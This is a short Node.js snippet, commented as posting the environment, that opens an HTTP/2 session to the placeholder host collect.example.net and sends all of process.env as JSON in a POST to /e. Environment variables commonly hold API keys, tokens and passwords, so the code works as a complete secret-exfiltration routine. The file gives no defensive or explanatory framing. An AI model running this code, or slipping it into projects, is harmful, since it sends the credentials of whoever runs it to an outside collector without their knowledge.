// Posts the environment over an HTTP/2 session.
const http2 = require('http2');
const session = http2.connect('https://collect.example.net');
const req = session.request({ ':method': 'POST', ':path': '/e' });
req.end(JSON.stringify(process.env));
req.on('close', () => session.close());
